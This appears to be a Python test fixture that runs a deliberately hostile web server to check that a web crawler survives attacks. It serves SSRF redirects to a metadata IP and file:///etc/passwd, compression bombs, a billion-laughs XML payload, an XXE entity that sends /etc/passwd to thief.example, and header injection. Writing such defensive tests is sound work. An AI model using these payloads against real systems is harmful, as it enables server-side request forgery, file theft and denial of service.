"""A server that does everything a crawler fears: each path is one case, with the outcomes that may be recorded for it.

``any`` means that the case must end in some recorded state; what matters there is that the crawl survives it.
"""

from __future__ import annotations

import gzip
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import brotli

from tests.crawlers.loopback import Asked, Page, Reply, Site

ANY = ("ok", "gone", "soft_404", "blocked", "captcha", "login_wall", "needs_browser", "refused", "error")
TITLE = "<html><head><title>{}</title></head><body>"


@dataclass(frozen=True)
class Case:
    page: Page
    outcomes: tuple[str, ...] = ANY
    asked: bool = True


def to(location: str, status: int = 302) -> Reply:
    return Reply("", status, {"Location": location})


def drip(seconds: float, piece: bytes = b"<p>slow</p>") -> Callable[[Any], None]:
    def write(out: Any) -> None:
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            out.write(piece)
            out.flush()
            time.sleep(0.2)

    return write


def flood(out: Any) -> None:
    for _ in range(4000):
        out.write(b"x" * 65536)


def raw(*pieces: bytes, pause: float = 0.0) -> Reply:
    def write(out: Any) -> None:
        for piece in pieces:
            out.write(piece)
            out.flush()
            time.sleep(pause)

    return Reply(raw=write)


def bomb(pack: Callable[[bytes], bytes], coding: str) -> Page:
    return lambda asked: Reply(pack(b"\0" * 100_000_000), headers={"Content-Encoding": coding})


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, 1)


def _twice(data: bytes) -> bytes:
    return gzip.compress(gzip.compress(data, 9), 9)


def _brotli(data: bytes) -> bytes:
    return bytes(brotli.compress(data, quality=1))


def calendar(asked: Asked) -> str:
    month = int(asked.path.rpartition("/")[2])
    return TITLE.format("Calendar") + f'<a href="/cal/{month + 1}">later</a> <a href="/cal/{month + 2}">much later</a>'


def session(asked: Asked) -> str:
    number = int(asked.path.partition("visit=")[2] or 0) + 1
    return (
        TITLE.format("Session")
        + f'<a href="/session?visit={number}">on</a> <a href="/session?visit={number * 7}">x</a>'
    )


def nested(asked: Asked) -> str:
    return TITLE.format("Nested") + '<a href="deeper/and/deeper/">on</a>'


def facets(asked: Asked) -> str:
    base = asked.path + ("&" if "?" in asked.path else "?")
    return TITLE.format("Facets") + "".join(f'<a href="{base}f{n}=1">{n}</a>' for n in range(9))


def growing_login(asked: Asked) -> str:
    return TITLE.format("In") + f'<a href="/enter?next={asked.path}">log in</a>'


def sitemap(*addresses: str, index: bool = False) -> Reply:
    root, entry = ("sitemapindex", "sitemap") if index else ("urlset", "url")
    body = "".join(f"<{entry}><loc>{address}</loc></{entry}>" for address in addresses)
    head = f'<?xml version="1.0"?><{root} xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
    return Reply(f"{head}{body}</{root}>", headers={"Content-Type": "application/xml"})


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {x} "{f"&{y};" * 10}">' for y, x in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><urlset><url><loc>&i;</loc></url></urlset>"
)
THIEF = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    "<rss><channel><item><link>http://thief.example/&x;</link></item></channel></rss>"
)


def cases(outside: str) -> dict[str, Case]:
    """Path → case. ``outside`` is a server that must never be asked."""
    paragraphs = [
        f"<p>第{n}天，晨光照在山上，{'雾气慢慢散开，樵夫沿着小路下来，' * 4}镇上的人都还睡着。</p>" for n in range(12)
    ]
    html_chinese = TITLE.format("晨光") + "<h1>晨光</h1>" + "".join(paragraphs)
    return {
        # where redirects lead
        "/to-private": Case(to("http://169.254.169.254/latest/"), ("refused",)),
        "/to-other-port": Case(to(f"{outside}/"), ("refused",)),
        "/to-other-host": Case(to("http://elsewhere.example/"), ("refused",)),
        "/to-slashes": Case(to("//elsewhere.example/x"), ("refused",)),
        "/to-file": Case(to("file:///etc/passwd"), ("refused",)),
        "/to-script": Case(to("javascript:alert(1)"), ("refused",)),
        "/to-decimal": Case(to("http://2130706433/"), ("refused",)),
        "/to-hex": Case(to("http://0x7f.1/"), ("refused",)),
        "/to-mapped": Case(to("http://[::ffff:127.0.0.1]/"), ("refused",)),
        "/to-password": Case(to("http://shop.example:x@elsewhere.example/"), ("refused",)),
        "/to-nothing": Case(Reply("", 302), ("refused", "error")),
        "/to-itself": Case(to("/to-itself"), ("error",)),
        "/to-ever": Case(lambda asked: to("/to-ever?x" + asked.path.partition("?")[2]), ("error",)),
        "/to-injection": Case(to("/ok%0d%0aSet-Cookie:%20x=1"), ANY),
        "/refresh-out": Case(TITLE.format("R") + f'<meta http-equiv="refresh" content="0;url={outside}/r">', ANY),
        # bodies
        "/drip": Case(Reply(TITLE.format("Drip"), stream=drip(30)), ("error",)),
        "/flood": Case(Reply("", stream=flood), ("error",)),
        "/promise": Case(raw(b"HTTP/1.1 200 OK\r\nContent-Length: 900000000\r\n\r\n", b"x" * 1000), ("error",)),
        "/bomb-gzip": Case(bomb(_gzip, "gzip"), ("error",)),
        "/bomb-twice": Case(bomb(_twice, "gzip, gzip"), ("error",)),
        "/bomb-deflate": Case(bomb(lambda data: zlib.compress(data, 1), "deflate"), ("error",)),
        "/bomb-brotli": Case(bomb(_brotli, "br"), ("error",)),
        "/broken-gzip": Case(Reply(b"\x1f\x8b\x08no gzip at all", headers={"Content-Encoding": "gzip"}), ANY),
        "/unknown-coding": Case(Reply(b"zzzz", headers={"Content-Encoding": "zebra"}), ANY),
        "/cut": Case(raw(b"HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n<title>cut"), ("error",)),
        "/bad-chunks": Case(raw(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\nxx\r\n"), ("error",)),
        "/empty": Case(Reply(b""), ANY),
        "/no-content": Case(Reply(b"", 204), ANY),
        "/nulls": Case(Reply(b"\0" * 100_000), ANY),
        "/binary": Case(Reply(bytes(range(256)) * 400), ANY),
        "/deep": Case("<div>" * 200_000 + "deep", ANY),
        "/wide": Case(TITLE.format("W") + "".join(f'<a href="/wide/{n}">{n}</a>' for n in range(400)), ("ok",)),
        "/long-attribute": Case(f'<a href="/{"a" * 3_000_000}">x</a>', ANY),
        # headers and protocol
        "/huge-header": Case(raw(b"HTTP/1.1 200 OK\r\nX: " + b"y" * 2_000_000 + b"\r\n\r\nok"), ("error",)),
        "/many-headers": Case(raw(b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 50_000 + b"\r\nok"), ANY),
        "/endless-header": Case(raw(b"HTTP/1.1 200 OK\r\n", *[b"X: y\r\n"] * 100, pause=0.2), ("error",)),
        "/no-http": Case(raw(b"SSH-2.0-OpenSSH_9.2\r\n"), ("error",)),
        "/closed": Case(raw(b""), ("error",)),
        "/status-999": Case(raw(b"HTTP/1.1 999 Denied\r\nContent-Length: 2\r\n\r\nno"), ("error", "blocked")),
        "/http-1.0": Case(raw(b"HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n<title>old</title>"), ("ok",)),
        "/members-only": Case(Reply("", 401, {"WWW-Authenticate": "Basic"}), ("login_wall",)),
        "/cookie": Case(Reply(TITLE.format("C"), headers={"Set-Cookie": "track=1; Path=/"}), ("ok",)),
        # charsets
        "/gbk-as-utf-8": Case(Reply(html_chinese.encode("gb18030")), ("ok",)),
        "/no-such-charset": Case(Reply(html_chinese, headers={"Content-Type": "text/html; charset=klingon"}), ("ok",)),
        # soft answers
        "/slide": Case(
            TITLE.format("安全验证") + "<p>请拖动滑块完成验证</p><div class=geetest></div>",
            ("captcha", "ok", "blocked"),
        ),
        "/members": Case(to("/login?from=/members"), ("login_wall",)),
        "/busy": Case(Reply("", 429, {"Retry-After": "86400"}), ("blocked",)),
        "/busy-negative": Case(Reply("", 503, {"Retry-After": "-5"}), ("blocked",)),
        # what pages say of themselves
        "/lies": Case(TITLE.format("L") + '<link rel="canonical" href="http://elsewhere.example/l">', ("ok",)),
        "/based": Case(f'<base href="{outside}/"><a href="x">x</a>', ANY),
        "/schemes": Case('<a href="data:text/html,x">d</a><a href="mailto:a@b">m</a><a href="tel:1">t</a>', ANY),
        "/odd-links": Case('<a href="http://[bad">b</a><a href="http://a b/">s</a><a href="/x\ny">n</a>', ANY),
        "/laughs": Case(Reply(LAUGHS, headers={"Content-Type": "application/xml"}), ANY),
        "/thief": Case(Reply(THIEF, headers={"Content-Type": "application/rss+xml"}), ANY),
        "/maps": Case(sitemap("{}/maps", f"{outside}/map", index=True), ANY),
        # traps
        "/cal/1": Case(calendar, ("ok",)),
        "/session": Case(session, ("ok",)),
        "/nested/": Case(nested, ("ok",)),
        "/facets": Case(facets, ("ok",)),
        "/enter-here": Case(growing_login, ("ok",)),
    }


def hostile_site(outside: str) -> Site:
    known = cases(outside)
    site = Site({path: case.page for path, case in known.items()})
    links = "".join(f'<a href="{path}">{path}</a>' for path in known)
    site.pages["/"] = f"<html><head><title>All</title></head><body>{links}</body></html>"
    site.pages["/robots.txt"] = Reply(
        "User-agent: *\nDisallow:\n" + "# x\n" * 200_000, headers={"Content-Type": "text/plain"}
    )
    site.pages["/login?from=/members"] = TITLE.format("Log in") + "<form method=post><input type=password>"
    traps: dict[str, Any] = {"/cal/": calendar, "/session": session, "/nested/": nested, "/facets": facets}

    def fallback(asked: Asked) -> Any:
        for start, page in traps.items():
            if asked.path.startswith(start):
                return page(asked)
        if asked.path.startswith("/to-ever"):
            return to(f"/to-ever?x{asked.path.partition('?')[2]}")
        return Reply("<title>404</title>", 404)

    site.fallback = fallback
    return site
